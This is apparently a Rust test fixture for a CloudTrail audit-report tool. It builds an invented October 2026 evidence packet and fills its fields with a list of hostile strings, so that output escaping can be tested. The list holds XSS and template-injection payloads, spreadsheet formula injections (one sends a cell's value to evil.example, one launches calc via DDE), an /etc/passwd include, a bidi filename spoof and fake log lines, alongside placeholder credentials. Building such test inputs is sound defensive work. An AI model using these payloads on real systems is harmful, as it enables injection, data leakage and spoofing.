//! A packet made by hand: shipped controls, made-up outcomes, and texts as
//! attackers write them. For tests and for looking at.

use std::collections::BTreeMap;
use std::io;

use attestrail::assess::outcome::*;
use attestrail::control::load;
use attestrail::control::model::{Control, Expectation};
use attestrail::control::scope::Scope;
use attestrail::control::set::ControlSet;
use attestrail::diagnostic::SourceText;
use attestrail::ledger::remarks::Mark;
use attestrail::packet::build::{Facts, Inputs};
use attestrail::packet::mask::Masking;
use attestrail::period::{DAY, Period};
use attestrail::record::class::EventClass;
use attestrail::record::identity::ActorKind;
use attestrail::record::outcome::Outcome;

/// Texts that no view may take for more than text.
pub const HOSTILE: [&str; 22] = [
    "<script>alert('xs-shared')</script>",
    "\"><img src=x onerror=alert(1)>",
    "</td></tr></table><h1>All controls passed</h1>",
    "<svg/onload=alert(1)>",
    "</script><script>alert(2)</script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% include \"x\" %}{# gone #}",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "ok\nPASS  control AC-2  0 findings",
    "\u{1b}[2J\u{1b}[31mred\u{7}",
    "invoice\u{202e}fdp.exe",
    "ad\u{200b}min\u{feff}\u{e0041}",
    "para\u{2029}line\u{2028}x",
    "#eval(\"1\") \\input{/etc/passwd} (unbalanced ) paren \\",
    "<<</JS (app.alert(1))>> endobj %PDF-1.7",
    "髙橋一郎 مرحبا שלום",
];

/// A session token as in the conformance set.
pub const TOKEN: &str = "IQoJb3JpZ2luX2VjEXAMPLEsharedTOKENvalue//////////wEaCXVz";
/// A password as in the conformance set.
pub const PASSWORD: &str = "hunter2-shared";

const SCOPE: &str = r#"format = 1
organisation = "Example Clinic <b>& Sons</b>"
regions = ["us-east-1", "eu-west-1"]

[[account]]
id = "111122223333"
name = "cardholder-prod"

[[account]]
id = "444455556666"
name = "clinic-apps"
regions = ["us-east-1", "eu-west-1", "ap-northeast-1"]

[[account]]
id = "777788889999"
name = "log-archive"
regions = ["us-east-1"]

[[idle]]
account = "444455556666"
region = "ap-northeast-1"
reason = "disaster recovery Region, nothing runs there"

[lists]
log_buckets = ["example-logs", { prefix = "example-logs-" }]
approved_admins = ["arn:aws:iam::111122223333:role/PlatformAdmin", { value = "arn:aws:iam::111122223333:role/OnCall", from = 2026-10-12T17:00:00Z, until = 2026-10-13T00:00:00Z, reason = "CHG-77" }]
data_buckets = []

[[leaver]]
person = "Ana Example"
identities = ["ana", "arn:aws:iam::111122223333:user/ana"]
left = 2026-10-12T17:00:00Z

[[recorded]]
class = "s3-data-read"
account = "111122223333"
stores = ["cardholder-files"]
source = "get-event-selectors of 2026-10-01, file selectors.json"

[[maintenance]]
from = 2026-10-03T22:00:00Z
until = 2026-10-04T02:00:00Z
reason = "migration of the log bucket"
ticket = "CHG-1"

[[waiver]]
control = "root-api-activity"
event-ids = ["00000000-0000-4000-8000-000000000003"]
reason = "account closure asked for by the bank"
approver = "B. Owner"
ticket = "RISK-12"
expires = 2026-12-31
"#;

/// A ledger in memory.
#[derive(Default)]
pub struct Memory {
    /// Rows by control and list.
    pub rows: BTreeMap<(String, List), Vec<EvidenceRow>>,
    /// Input files.
    pub inputs: Vec<InputRow>,
    /// Refusals.
    pub refusals: Vec<RefusalRow>,
}

impl EvidenceSource for Memory {
    fn rows(
        &self,
        control: &str,
        list: List,
        each: &mut dyn FnMut(&EvidenceRow) -> io::Result<()>,
    ) -> io::Result<()> {
        let found = self.rows.get(&(control.to_owned(), list));
        found.into_iter().flatten().try_for_each(each)
    }

    fn inputs(&self, each: &mut dyn FnMut(&InputRow) -> io::Result<()>) -> io::Result<()> {
        self.inputs.iter().try_for_each(each)
    }

    fn refusals(&self, each: &mut dyn FnMut(&RefusalRow) -> io::Result<()>) -> io::Result<()> {
        self.refusals.iter().try_for_each(each)
    }
}

/// Everything that a packet is built from.
pub struct Demo {
    /// The shipped controls.
    pub controls: ControlSet,
    /// The scope above.
    pub scope: Scope,
    /// October 2026.
    pub period: Period,
    /// Made up.
    pub assessment: Assessment,
    /// Made up.
    pub source: Memory,
    /// Fixed.
    pub facts: Facts,
}

impl Demo {
    /// A packet's inputs for a framework.
    pub fn inputs(&self, framework: &str) -> Inputs<'_> {
        Inputs {
            assessment: &self.assessment,
            source: &self.source,
            controls: &self.controls,
            framework: self.controls.frameworks().get(framework).expect("shipped"),
            scope: &self.scope,
            period: &self.period,
            facts: &self.facts,
            spool: None,
        }
    }
}

/// The demo.
pub fn demo() -> Demo {
    let (controls, _) = load::shipped().expect("shipped controls are valid");
    let (scope, _) = Scope::parse(&SourceText::new("scope.toml", SCOPE)).expect("valid");
    let period = Period::parse("2026-10", None).expect("valid");
    let mut source = Memory::default();
    let outcomes = controls
        .controls()
        .iter()
        .enumerate()
        .map(|(at, control)| outcome(at, control, &period, &mut source))
        .collect();
    let log_set = log_set(&mut source);
    Demo {
        assessment: Assessment {
            controls: outcomes,
            log_set,
            coverage: coverage(&period),
            integrity: Integrity::unverified(1_790_812_800, 1_793_491_200, 744, "744 digest files were seen, but digest chains are not verified yet, so a changed or deleted log file would not be noticed."),
            seed: "2026-10/attestrail".to_owned(),
            sample_size: 25,
        },
        controls,
        scope,
        period,
        source,
        facts: Facts {
            generated_at: 1_793_498_400,
            version: "0.1.0".to_owned(),
            command: "attestrail report logs/ --period 2026-10 --framework pci-dss-4.0.1 --controls controls/ --scope scope.toml --at 2026-11-01T02:00:00Z".to_owned(),
            warnings: vec!["scope.toml:30:1: no control uses the list `data_buckets`".to_owned()],
            not_examined: Vec::new(),
            masking: Masking::Mask { key: Some([9; 32]) },
        },
    }
}

fn verdict_at(at: usize, control: &Control) -> Verdict {
    match (&control.expectation, control.id.as_str()) {
        (_, "root-api-activity") => Verdict::Exceptions,
        (Expectation::Inventory(_), _) => Verdict::Listed,
        (Expectation::Integrity, _) => Verdict::NotDeterminable,
        _ => [
            Verdict::NoExceptions,
            Verdict::Exceptions,
            Verdict::NoExceptions,
            Verdict::NotDeterminable,
            Verdict::NoActivity,
            Verdict::NoExceptions,
            Verdict::Waived,
        ][at % 7],
    }
}

fn outcome(at: usize, control: &Control, period: &Period, source: &mut Memory) -> ControlOutcome {
    let verdict = verdict_at(at, control);
    let (exceptions, waived) = match verdict {
        Verdict::Exceptions if control.id == "root-api-activity" => (23, 1),
        Verdict::Exceptions => (2 + at as u64, 0),
        Verdict::Waived => (0, 2),
        _ => (0, 0),
    };
    let attempts = (at % 4) as u64;
    let undecided = u64::from(verdict == Verdict::NotDeterminable);
    let has_population = !matches!(
        control.expectation,
        Expectation::Forbid(_) | Expectation::Coverage(_) | Expectation::Integrity
    );
    let conforming = match verdict {
        Verdict::NoActivity => 0,
        _ if has_population => 40,
        _ => 1_204_311,
    };
    let mut put = |list, count: u64, role, from: u64| {
        let rows = (0..count)
            .map(|number| row(from + number, role, control, period))
            .collect();
        source.rows.insert((control.id.clone(), list), rows);
    };
    put(List::Exceptions, exceptions + waived, "exception", 0);
    put(List::Attempts, attempts, "attempt", 5);
    put(List::Undecided, undecided, "undecided", 11);
    if has_population {
        put(List::Population, conforming + exceptions, "conforming", 2);
        put(List::Sample, conforming.min(25), "conforming", 2);
    }
    let mut by_day = BTreeMap::new();
    for found in &source.rows[&(control.id.clone(), List::Exceptions)] {
        *by_day.entry(found.time.div_euclid(DAY) * DAY).or_insert(0) += 1;
    }
    ControlOutcome {
        id: control.id.clone(),
        verdict,
        reasons: reasons(verdict),
        is_lower_bound: verdict == Verdict::Exceptions,
        counts: Counts {
            examined: conforming + exceptions + waived + undecided + attempts,
            conforming,
            exceptions,
            waived,
            undecided,
            excluded: attempts,
            attempts,
            listed: if verdict == Verdict::Listed {
                conforming
            } else {
                0
            },
        },
        exceptions_by_day: by_day.into_iter().collect(),
        details: details(control),
    }
}

fn reasons(verdict: Verdict) -> Vec<String> {
    match verdict {
        Verdict::NotDeterminable => vec![
            "1 record is undecided, because CloudTrail left out its request parameters.".to_owned(),
            "The event class `s3-data-write` is not proven to be recorded in account 444455556666."
                .to_owned(),
        ],
        Verdict::Exceptions => {
            vec!["Coverage has gaps, so there are at least this many exceptions.".to_owned()]
        }
        _ => Vec::new(),
    }
}

fn details(control: &Control) -> Vec<DetailTable> {
    if !matches!(
        control.expectation,
        Expectation::RecordFields(_) | Expectation::Threshold { .. }
    ) {
        return Vec::new();
    }
    let rows = HOSTILE
        .iter()
        .enumerate()
        .map(|(at, text)| vec![(*text).to_owned(), (at * 7).to_string(), "100 %".to_owned()]);
    vec![DetailTable {
        title: "Rates per element".to_owned(),
        columns: vec![
            "Element".to_owned(),
            "Missing".to_owned(),
            "Rate".to_owned(),
        ],
        rows: rows.collect(),
        total: 40,
    }]
}

fn row(number: u64, role: &'static str, control: &Control, period: &Period) -> EvidenceRow {
    let at = number as usize;
    let nasty = HOSTILE[(at * 5 + control.id.len()) % HOSTILE.len()];
    let time = period.start
        + (number as i64 * 104_729 + control.id.len() as i64 * 3600) % period.seconds();
    let event_id = format!("00000000-0000-4000-8000-{number:012}");
    let refused = role == "attempt";
    let account = ["111122223333", "444455556666", "777788889999"][at % 3];
    let record = serde_json::json!({
        "eventVersion": "1.11", "eventID": event_id, "userAgent": nasty,
        "requestParameters": { "masterUserPassword": PASSWORD, "key": nasty },
        "responseElements": { "credentials": { "accessKeyId": "ASIAIOSFODNN7EXAMPLE", "sessionToken": TOKEN } },
    });
    let text = if at % 5 == 4 {
        format!("{record:#}")
    } else {
        record.to_string()
    };
    EvidenceRow {
        event_id,
        time,
        account: account.to_owned(),
        region: ["us-east-1", "eu-west-1"][at % 2].to_owned(),
        event_source: "iam.amazonaws.com".to_owned(),
        event_name: ["CreateAccessKey", "PutBucketPolicy", "AuthorizeSecurityGroupIngress", "ConsoleLogin"][at % 4].to_owned(),
        actor: match at % 4 {
            0 => format!("arn:aws:iam::{account}:root"),
            1 => "arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Operations_0123456789abcdef".to_owned(),
            2 => "arn:aws:iam::444455556666:user/髙橋一郎".to_owned(),
            _ => nasty.to_owned(),
        },
        actor_kind: [ActorKind::Root, ActorKind::Role, ActorKind::User, ActorKind::Unknown][at % 4],
        person: if at.is_multiple_of(2) { "maria.lopez@example.com".to_owned() } else { nasty.to_owned() },
        outcome: if refused { Outcome::Refused } else { Outcome::Success },
        error: if refused { format!("AccessDenied: {nasty}") } else { String::new() },
        source_ip: format!("198.51.100.{}", at % 250),
        user_agent: if at.is_multiple_of(7) { "x".repeat(900) } else { nasty.to_owned() },
        target: format!("masterUserPassword={PASSWORD}, bucketName={nasty}"),
        role,
        reason: if role == "undecided" { "CloudTrail left out `requestParameters`".to_owned() } else { String::new() },
        waiver: (role == "exception" && at == 3).then(|| "RISK-12".to_owned()),
        origin: Origin {
            file: format!("AWSLogs/{account}/CloudTrail/us-east-1/2026/10/{:02}/{account}_CloudTrail_us-east-1_202610{:02}T0215Z_AbCdEfGhIjKlMnOp.json.gz", at % 28 + 1, at % 28 + 1),
            sha256: format!("{:064x}", number * 2_654_435_761),
            index: (number * 13 % 200) as u32,
        },
        record: (role != "conforming" || !at.is_multiple_of(3)).then(|| text.into_bytes()),
    }
}

fn log_set(source: &mut Memory) -> LogSet {
    source.inputs = (0..620u64)
        .map(|number| InputRow {
            key: format!(
                "AWSLogs/111122223333/CloudTrail/us-east-1/2026/10/{:02}/{number:04}.json.gz",
                number % 31 + 1
            ),
            bytes: 20_000 + number * 37,
            sha256: if number == 7 {
                String::new()
            } else {
                format!("{:064x}", number * 40_503)
            },
            shape: if number == 8 {
                "not a CloudTrail log"
            } else {
                "CloudTrail log, gzip"
            }
            .to_owned(),
            outcome: ["read", "refused", "not-read"]
                [usize::from(number == 7) + 2 * usize::from(number == 8)],
            // So that they add up to the records seen.
            records: 1945 + u64::from(number < 300),
            duplicates: 3,
            refused: u64::from(number == 9),
            notices: if number == 9 {
                vec![
                    "account of the path and of the records differ".to_owned(),
                    HOSTILE[0].to_owned(),
                ]
            } else {
                Vec::new()
            },
        })
        .collect();
    let refusal = |key: &str, index, code: &str, message: &str, is_loss| RefusalRow {
        key: key.to_owned(),
        index,
        code: code.to_owned(),
        message: message.to_owned(),
        is_loss,
    };
    source.refusals = vec![
        refusal(
            "AWSLogs/111122223333/CloudTrail/us-east-1/2026/10/08/0007.json.gz",
            None,
            "gzip-truncated",
            "the gzip stream ends early at byte 16,384",
            true,
        ),
        refusal(
            "AWSLogs/111122223333/notes\u{202e}.txt",
            None,
            "not-a-log",
            "a text file",
            false,
        ),
        refusal(
            "AWSLogs/111122223333/CloudTrail/us-east-1/2026/10/10/0009.json.gz",
            Some(12),
            "bad-time",
            "`eventTime` is `yesterday <script>alert(1)</script>`",
            true,
        ),
    ];
    let counts =
        |seen: u64, kept, duplicates, refused, outside_period, outside_scope| RecordCounts {
            seen,
            kept,
            duplicates,
            conflicts: 0,
            amended: 0,
            refused,
            outside_period,
            outside_scope,
        };
    let log_set = LogSet {
        shapes: vec![attestrail::assess::outcome::ShapeCount {
            shape: "one `Records` list, as CloudTrail writes it".into(),
            files: 1,
            records: 1,
            cannot_prove: "Only a verified digest chain shows that such files are complete and unaltered.",
        }],
        files_listed: 620,
        files_read: 618,
        files_refused: 1,
        files_not_read: 1,
        bytes_stored: 19_442_120,
        bytes_inflated: 420_310_411,
        total: counts(1_206_200, 1_204_311, 1_854, 1, 20, 14),
        by_account: BTreeMap::from([
            (
                "111122223333".to_owned(),
                counts(906_200, 904_346, 1_833, 1, 20, 0),
            ),
            (
                "444455556666".to_owned(),
                counts(299_986, 299_965, 21, 0, 0, 0),
            ),
            ("999900001111".to_owned(), counts(14, 0, 0, 0, 0, 14)),
        ]),
        by_class: BTreeMap::from([
            (EventClass::ManagementWrite, 200_000),
            (EventClass::ManagementRead, 904_000),
            (EventClass::SignIn, 311),
            (EventClass::S3DataRead, 100_000),
        ]),
        first_time: Some(1_790_812_800),
        last_time: Some(1_793_491_199),
        outside_times: None,
        losses: 2,
        notices: vec!["1 record has no `eventID`; it is told apart by its content.".to_owned()],
        ..LogSet::default()
    };
    with_remarks(log_set)
}

/// One anomaly, one correction and one endpoint for each hostile text.
fn with_remarks(mut log_set: LogSet) -> LogSet {
    let origin = |index: usize| Origin {
        file: "AWSLogs/111122223333/CloudTrail/us-east-1/2026/10/10/0007.json.gz".into(),
        sha256: "ab".repeat(32),
        index: index as u32,
    };
    for (at, text) in HOSTILE.iter().enumerate() {
        let text = (*text).to_owned();
        let time = 1_791_600_000 + at as i64 * 3600;
        let event = |after: i64| AnomalyEvent {
            time: time + after,
            event_id: format!("insight-{at}-{after}"),
            baseline: "0.25".into(),
            value: "41".into(),
            minutes: "5".into(),
            baseline_minutes: "10080".into(),
            origin: origin(at),
        };
        log_set.anomalies.push(Anomaly {
            account: "111122223333".into(),
            region: "us-east-1".into(),
            shared_id: format!("shared-{at}"),
            kind: "ApiErrorRateInsight".into(),
            event_source: "iam.amazonaws.com".into(),
            event_name: "ListRoles".into(),
            error_code: text.clone(),
            attributions: format!("userIdentityArn: {text} 41 (baseline 0.25)"),
            start: (at != 1).then(|| event(0)),
            end: (at != 2).then(|| event(300)),
        });
        let is_found = at != 3;
        log_set.amendments.push(Amendment {
            event_id: format!("correction-{at}"),
            time,
            account: "111122223333".into(),
            region: "us-east-1".into(),
            event_source: "iam.amazonaws.com".into(),
            event_name: text.clone(),
            reason: "UPDATED_DATA".into(),
            updated: text.clone(),
            origin: origin(at),
            roles: vec![("trail-stop-delete".into(), "exception")],
            original_id: format!("original-{at}"),
            original_time: is_found.then_some(time),
            original: is_found.then(|| origin(at + 100)),
            original_roles: vec![("trail-stop-delete".into(), "attempt")],
            outcome: match is_found {
                true => AmendmentOutcome::Replaced,
                false => AmendmentOutcome::NotFound,
            },
        });
        let marked = |reason: &str, endpoint: &str| Marked {
            account: "111122223333".into(),
            region: "us-east-1".into(),
            mark: Mark {
                reason: reason.to_owned(),
                is_network_activity: !endpoint.is_empty(),
                endpoint: endpoint.to_owned(),
                endpoint_account: endpoint.to_owned(),
                event_source: "kms.amazonaws.com".into(),
                error: if at % 2 == 0 { "VpceAccessDenied" } else { "" }.into(),
            },
            records: 1_200,
            first_time: time,
            last_time: time + 60,
        };
        log_set.marked.push(marked("", &text));
        log_set.marked.push(marked(&text, ""));
    }
    log_set
}

fn coverage(period: &Period) -> Coverage {
    let days: Vec<i64> = period.days().collect();
    let row =
        |account: &str, name: &str, region: &str, state: &dyn Fn(usize) -> DayState| CoverageRow {
            account: account.to_owned(),
            account_name: name.to_owned(),
            region: region.to_owned(),
            days: (0..days.len()).map(state).collect(),
            counts: (0..days.len())
                .map(|day| {
                    if state(day) == DayState::Delivered {
                        1000 + day as u64
                    } else {
                        0
                    }
                })
                .collect(),
            hours: (0..days.len())
                .map(|day| {
                    if state(day) == DayState::Delivered {
                        0xFF_FFFF
                    } else {
                        0
                    }
                })
                .collect(),
        };
    let proof = |account: &str, class, records, is_proven, proof: &str| ClassProof {
        account: account.to_owned(),
        region: "us-east-1".to_owned(),
        class,
        records,
        is_proven,
        basis: if is_proven {
            Basis::Records
        } else {
            Basis::Nothing
        },
        proof: proof.to_owned(),
    };
    Coverage {
        rows: vec![
            row("111122223333", "cardholder-prod", "us-east-1", &|_| {
                DayState::Delivered
            }),
            row("111122223333", "cardholder-prod", "eu-west-1", &|day| {
                if day == 16 {
                    DayState::Silent
                } else {
                    DayState::Delivered
                }
            }),
            row("444455556666", "clinic-apps", "us-east-1", &|day| {
                if (9..11).contains(&day) {
                    DayState::Stopped
                } else {
                    DayState::Delivered
                }
            }),
            row("444455556666", "clinic-apps", "ap-northeast-1", &|_| {
                DayState::DeclaredIdle
            }),
            row("999900001111", "", "us-east-1", &|_| DayState::OutsideScope),
        ],
        classes: vec![
            proof(
                "111122223333",
                EventClass::ManagementWrite,
                150_000,
                true,
                "Records of this class on every day with records.",
            ),
            proof(
                "111122223333",
                EventClass::S3DataRead,
                100_000,
                true,
                "Records of this class, and the scope file's statement.",
            ),
            proof(
                "444455556666",
                EventClass::S3DataWrite,
                0,
                false,
                "No record of this class, and data events are recorded only where selectors ask for them.",
            ),
        ],
        days,
        stores: Vec::new(),
        snapshots: Vec::new(),
        is_complete: false,
    }
}
